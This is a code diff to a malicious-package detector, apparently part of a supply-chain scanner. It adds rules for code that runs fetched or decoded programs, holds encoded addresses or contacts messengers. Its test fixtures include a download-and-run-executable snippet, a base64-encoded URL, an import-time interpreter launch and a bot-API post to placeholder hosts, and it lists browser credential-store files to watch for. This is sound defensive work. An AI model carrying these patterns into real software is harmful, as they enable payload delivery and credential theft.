@@ -3,7 +3,8 @@
 ## What it detects
 Only where there is no earlier release to measure against: code that connects or starts programs while it is installed
 or as soon as its module is loaded; and, wherever it stands, code that starts what it fetches from a hidden, bare or
-suspicious address, executes what it decodes, reads a browser's stored passwords and connects, or names a place that
+suspicious address, writes or fetches a program and has it started, executes what it decodes, holds or connects
+to an address that is written in an encoding, reads a browser's stored passwords and connects, or names a mailbox that
 payloads send to.
 
 ## Why it matters
@@ -23,20 +24,22 @@ Later releases: there is a line then, and other detectors ask what is new in it.
 
 from collections.abc import Collection, Iterator
 
-from lazaretto.core.destination import destination
+from lazaretto.core.destination import destination, names_service_alone
 from lazaretto.core.facts import Kind, Reach
 from lazaretto.core.finding import Card, Example, Finding
 from lazaretto.core.question import (
     Tally,
     chains,
-    command_files,
     decoded,
     hidden,
+    in_tests,
     is_document,
+    layers,
     package_json,
     runs_by_itself,
     runs_when_loaded,
 )
+from lazaretto.core.started import builds, hands_code, is_own, is_program, unpacks
 from lazaretto.core.update import Pair, Placed, Update
 
 CARD = Card(
@@ -48,15 +51,21 @@ CARD = Card(
         "install-starts": "Code that runs at installation starts a program that does not belong to building.",
         "load-both": "A module connects and starts a program as soon as it is loaded.",
         "load-connects": "A module connects as soon as it is loaded.",
+        "load-starts-code": "A module hands code to an interpreter, or has more installed, as soon as it is loaded.",
         "load-starts": "A module starts a program as soon as it is loaded.",
         "starts-fetched": "Code starts what it fetches from a bare, hidden or suspicious address.",
         "executes-fetched": "Code evaluates what it fetches.",
+        "starts-program": "Code starts a program that it wrote or fetched, or puts it where it is started.",
         "starts-download": "Code starts what it fetches.",
+        "load-decodes": "A module executes text that was encoded as soon as it is loaded by its own name.",
+        "executes-layers": "Code executes what several encodings, one inside the other, gave.",
         "executes-decoded": "Code that does not run by itself executes text or commands that were encoded.",
+        "address-encoded": "Code holds or connects to a web address that is written in an encoding.",
         "browser-secrets": "Code reads what a browser stores, and connects.",
         "wallet-sent": "Code touches wallets or keys, and connects to a suspicious address.",
         "secret-taken": "Code reads a credential or the whole environment, and connects, in one file.",
         "payload-place": "Code names a web hook, a tunnel, a drop or another place that payloads send to.",
+        "messenger": "Code connects to a messenger, as whoever calls it.",
     },
     group="first-contact",
     why="What is made to do harm never had a harmless release.",
@@ -64,29 +73,15 @@ CARD = Card(
 )
 
 _NET = (Kind.NET_CONNECT, Kind.DNS_QUERY)
-_TESTS = frozenset({"test", "tests", "testing", "__tests__", "spec", "fixtures", "examples", "docs", "benchmarks"})
-_BUILDING = frozenset(
-    "git hg svn make gmake nmake ninja cmake meson autoconf automake libtool gcc g++ cc c++ clang clang++ ld ar ranlib "
-    "pkg-config pkgconf rustc cargo go swig cython nvcc xcrun xcode-select sw_vers uname lsb_release ldconfig "
-    "llvm-config mysql_config pg_config node-gyp node-pre-gyp prebuild-install node-gyp-build tsc install_name_tool "
-    "patchelf strip which where brew".split()
-)
-"""Programs that building and releasing start."""
-
-_ASKING = ("--cflags", "--libs", "--prefix", "--includes")
-"""How the options begin by which a build asks where a library is."""
-
-_INTERPRETERS = frozenset({"node", "python", "python3", "sh", "bash", "{}"})
-
 _MODULES = {"npm": (".js", ".cjs", ".mjs", ".ts", ".jsx", ".tsx"), "pypi": (".py",)}
 """What an ecosystem's own loader takes for a module: scripts of other languages lie beside them."""
-
-_PROBING = frozenset("-E -dM --version -dumpversion -dumpmachine".split())
-"""Words by which a build asks a compiler about itself."""
 
 _BROWSERS = (
     "local state", "login data", "leveldb", "user data", "cookies.sqlite", "logins.json", "key4.db", "web data",
 )  # fmt: skip
+_MANY_LAYERS = 3
+
+
 _PLACES = frozenset({"webhook", "messenger", "callback", "tunnel", "paste", "drop", "hidden-service"})
 
 _STEALER = (
@@ -124,6 +119,48 @@ EXAMPLES = (
         after={"pad/__init__.py": "WIDTH = 2\n", "pad/take.py": _STEALER},
         expect="browser-secrets",
         at="pad/take.py:5",
+    ),
+    Example(
+        title="a function that starts the program which it fetches",
+        ecosystem="pypi",
+        after={
+            "pad/__init__.py": "import os, requests\nWIDTH = 2\ndef check():\n"
+            "    link = requests.get('https://files.invalid/newest').json()['link']\n"
+            "    with open('C:/Pad/server.exe', 'wb') as file:\n"
+            "        file.write(requests.get(link).content)\n"
+            "    os.startfile('C:/Pad/server.exe')\n",
+        },
+        expect="starts-program",
+        at="pad/__init__.py:5",
+    ),
+    Example(
+        title="an address in base64 in one module, for another to decode",
+        ecosystem="pypi",
+        after={
+            "pad/__init__.py": "WIDTH = 2\n",
+            "pad/names.py": "NAME = 'aHR0cHM6Ly90YWtlLmludmFsaWQvaW4='\n",
+        },
+        expect="address-encoded",
+        at="pad/names.py:1",
+    ),
+    Example(
+        title="a module that hands code to an interpreter as soon as it is imported",
+        ecosystem="pypi",
+        after={
+            "pad/__init__.py": "import subprocess\nsubprocess.Popen(['python3', '-c', 'import stage'])\nWIDTH = 2\n"
+        },
+        expect="load-starts-code",
+        at="pad/__init__.py:2",
+    ),
+    Example(
+        title="a bar that tells its progress to the messenger of whoever calls it",
+        ecosystem="pypi",
+        after={
+            "pad/__init__.py": "import requests\nWIDTH = 2\ndef tell(token, text):\n"
+            "    requests.post(f'https://api.telegram.org.invalid/bot{token}/sendMessage', data={'text': text})\n"
+        },
+        expect="messenger",
+        at="pad/__init__.py:4",
     ),
     Example(
         title="a setup script that asks for the commit it is built from",
@@ -189,15 +226,21 @@ _MESSAGES = {
     "install-starts": "starts a program while it is installed",
     "load-both": "connects and starts programs as soon as it is loaded",
     "load-connects": "connects as soon as it is loaded",
+    "load-starts-code": "hands code to an interpreter, or has more installed, as soon as it is loaded",
     "load-starts": "starts a program as soon as it is loaded",
     "starts-fetched": "starts what it fetches from a suspicious address",
     "executes-fetched": "evaluates what it fetches",
+    "starts-program": "starts a program that it wrote or fetched, or puts it where it is started",
     "starts-download": "starts what it fetches",
+    "load-decodes": "executes what it decodes as soon as it is loaded",
+    "executes-layers": "executes what several encodings gave",
     "executes-decoded": "executes what it decodes",
+    "address-encoded": "holds an address that is written in an encoding",
     "browser-secrets": "reads what a browser stores, and connects",
     "wallet-sent": "touches wallets or keys, and connects to a suspicious address",
     "secret-taken": "reads credentials or the whole environment where it connects",
     "payload-place": "names a place that payloads send to",
+    "messenger": "connects to a messenger",
 }
 
 
@@ -208,7 +251,7 @@ def detect(update: Update) -> Iterator[Finding]:
     for pair in update.pairs:
         if pair.before is None:
             _by_itself(tally, pair, modules)
-            _runs_strange_code(tally, pair)
+            _runs_strange_code(tally, pair, modules)
             _takes(tally, pair)
     yield from tally.findings(_MESSAGES)
 
@@ -220,17 +263,18 @@ def _by_itself(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
     ):
         connects = [p for p in places if p.fact.kind in _NET]
         started = (p for p in places if p.fact.kind is Kind.PROCESS_SPAWN)
-        starts = [p for p in started if not _builds(p.fact.value) and not _is_own(pair, p.fact.value)]
+        starts = [p for p in started if not builds(p.fact.value) and not is_own(pair.after.tree, p.fact.value)]
         files = {p.path for p in connects} & {p.path for p in starts}
         if files:
             tally.add(f"{when}-both", pair, *(p for p in [*connects, *starts] if p.path in files))
         elif connects:
             tally.add(f"{when}-connects", pair, *connects)
         elif starts:
-            tally.add(f"{when}-starts", pair, *starts)
+            coded = [p for p in starts if when == "load" and hands_code(p.fact.value)]
+            tally.add("load-starts-code" if coded else f"{when}-starts", pair, *(coded or starts))
 
 
-def _runs_strange_code(tally: Tally, pair: Pair) -> None:
+def _runs_strange_code(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
     view = pair.after
     for chain in chains(view, (Kind.NET_CONNECT,), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
         fact = chain.source.fact
@@ -242,19 +286,47 @@ def _runs_strange_code(tally: Tally, pair: Pair) -> None:
             tally.add("executes-fetched", pair, chain.source, chain.sink)
         elif chain.data and fact.value:
             tally.add("starts-download", pair, chain.source, chain.sink)
+    for chain in chains(view, (Kind.NET_CONNECT, Kind.FS_WRITE), (Kind.PROCESS_SPAWN,)):
+        if chain.data and _counts(chain.sink) and is_program(chain.sink.fact.value, scripts=runs_by_itself(chain.sink)):
+            tally.add("starts-program", pair, chain.source, chain.sink)
+    starting = {(p.path, p.fact.span) for p in view.placed if p.fact.kind is Kind.PERSIST}
+    for chain in chains(view, (Kind.NET_CONNECT,), (Kind.FS_WRITE,)) if starting else ():
+        if chain.data and _counts(chain.sink) and (chain.sink.path, chain.sink.fact.span) in starting:
+            tally.add("starts-program", pair, chain.source, chain.sink)
+    lines = (p for p in view.placed if p.fact.kind is Kind.PROCESS_SPAWN and _counts(p) and unpacks(p.fact.value))
+    tally.add("starts-program", pair, *lines)
+    _runs_decoded(tally, pair, modules)
+
+
+def _runs_decoded(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
+    view = pair.after
     for chain in chains(view, (Kind.DECODE, Kind.DECRYPT), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
-        if chain.data and _counts(chain.sink) and not runs_by_itself(chain.sink):
-            tally.add("executes-decoded", pair, chain.sink)
-            tally.explain("executes-decoded", decoded(pair, chain.sink.path))
-    executed = [p for p in view.placed if p.fact.kind in (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)]
-    dormant = (p for p in executed if hidden(p.fact) and _counts(p) and not runs_by_itself(p))
-    tally.add("executes-decoded", pair, *dormant)
+        if not _counts(chain.sink):
+            continue
+        if layers(chain.source.fact) >= _MANY_LAYERS:
+            tally.add("executes-layers", pair, chain.source, chain.sink)
+        if chain.data:
+            _decoded(tally, pair, chain.sink, modules)
+    for placed in view.placed:
+        if placed.fact.kind in (Kind.PROCESS_SPAWN, Kind.CODE_EVAL) and hidden(placed.fact) and _counts(placed):
+            _decoded(tally, pair, placed, modules)
+
+
+def _decoded(tally: Tally, pair: Pair, placed: Placed, modules: tuple[str, ...]) -> None:
+    if runs_by_itself(placed):
+        return  # asked elsewhere
+    loads = placed.path.endswith(modules) and runs_when_loaded(placed) and placed.fact.kind is Kind.CODE_EVAL
+    variant = "load-decodes" if loads else "executes-decoded"
+    tally.add(variant, pair, placed)
+    tally.explain(variant, decoded(pair, placed.path))
 
 
 def _takes(tally: Tally, pair: Pair) -> None:
     view = pair.after
     nets = {p.path for p in view.placed if p.fact.kind in _NET}
     sends = {p.path for p in view.placed if p.fact.kind in _NET and (hidden(p.fact) or destination(p.fact.value))}
+    evals = (p for p in view.placed if p.fact.kind is Kind.CODE_EVAL and hidden(p.fact))
+    unpacked = {p.path for p in evals if runs_by_itself(p)}
     for placed in view.placed:
         fact = placed.fact
         if not _counts(placed):
@@ -264,8 +336,14 @@ def _takes(tally: Tally, pair: Pair) -> None:
             tally.add("browser-secrets" if browser else "secret-taken", pair, placed)
         if fact.kind is Kind.WALLET_TOUCH and placed.path in sends:
             tally.add("wallet-sent", pair, placed)
-        if fact.kind in (*_NET, Kind.LITERAL_URL) and destination(fact.value) in _PLACES:
-            tally.add("payload-place", pair, placed)
+        if fact.kind not in (*_NET, Kind.LITERAL_URL):
+            continue
+        if destination(fact.value) in _PLACES:
+            tally.add("messenger" if names_service_alone(fact.value) else "payload-place", pair, placed)
+        # Code that runs by itself and was decoded is charged as that: an address in its text is no further sign.
+        alone = fact.kind in _NET or placed.path not in unpacked
+        if alone and hidden(fact) and "://" in (fact.value or ""):
+            tally.add("address-encoded", pair, placed)
 
 
 def _loads(placed: Placed, modules: tuple[str, ...]) -> bool:
@@ -275,27 +353,7 @@ def _loads(placed: Placed, modules: tuple[str, ...]) -> bool:
 
 
 def _counts(placed: Placed) -> bool:
-    folders = set(placed.path.lower().split("/")[:-1])
-    return not _TESTS & folders and not is_document(placed.path)
-
-
-def _builds(command: str | None) -> bool:
-    words = (command or "").split()
-    asks = any(word.startswith(_ASKING) for word in words[1:])
-    asks = asks or (words[:1] == ["{}"] and not _PROBING.isdisjoint(words[1:]))  # a compiler that the environment names
-    return asks or (bool(words) and _program(words[0]) in _BUILDING)
-
-
-def _is_own(pair: Pair, command: str | None) -> bool:
-    """Whether a command hands a file of the release to an interpreter: what that file does is told by itself."""
-    words = (command or "").split()
-    if not words or _program(words[0]) not in _INTERPRETERS:
-        return False
-    return words[1:2] == ["."] or bool(command_files(command or "", pair.after.tree))
-
-
-def _program(word: str) -> str:
-    return word.replace("\\", "/").rpartition("/")[2].lower().removesuffix(".exe").strip("\"'")
+    return not in_tests(placed.path) and not is_document(placed.path)
 
 
 def _names(value: str | None, words: Collection[str]) -> bool:
